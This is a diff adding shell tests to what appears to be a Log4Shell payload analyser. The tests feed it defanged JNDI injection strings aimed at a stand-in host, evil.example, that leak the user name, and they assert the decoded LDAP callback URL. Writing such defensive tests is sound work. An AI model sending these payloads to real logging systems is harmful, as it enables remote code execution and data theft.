@@ -67,6 +67,16 @@ assert "jndi" not in acts[:r], acts
 assert "inert" in acts and acts.index("inert") < acts.index("jndi"), acts
 PY
 done
+# Defanged input: read back with --defanged (the defanged form is
+# reversible); without it, a note says the payload looks defanged.
+"$DEFUSE" explain --json --defanged '$\{jndi:ldap[:]//$\{sys:user.name}[.]evil[.]example/a\[.]b\\x}' > out.json 2> err.txt
+expect_rc 0 $? "explain --defanged"
+python3 -c '
+import json; f = json.load(open("out.json"))["findings"][0]
+assert f["kind"] == "jndi" and f["callback"] == "ldap://${sys:user.name}.evil.example/a[.]b\\x", f' \
+  && ok "--defanged reads the defanged form back exactly" || fail "--defanged"
+"$DEFUSE" explain '$\{jndi:ldap[:]//evil[.]example/a}' > out.txt 2> err.txt
+expect_grep "looks defanged" err.txt "a defanged payload is noticed"
 "$DEFUSE" explain 2>/dev/null; expect_rc 2 $? "no payload"
 "$DEFUSE" explain --file=/nonexistent/x 2> err.txt; expect_rc 2 $? "missing file"
 expect_grep "/nonexistent/x" err.txt "missing file named"
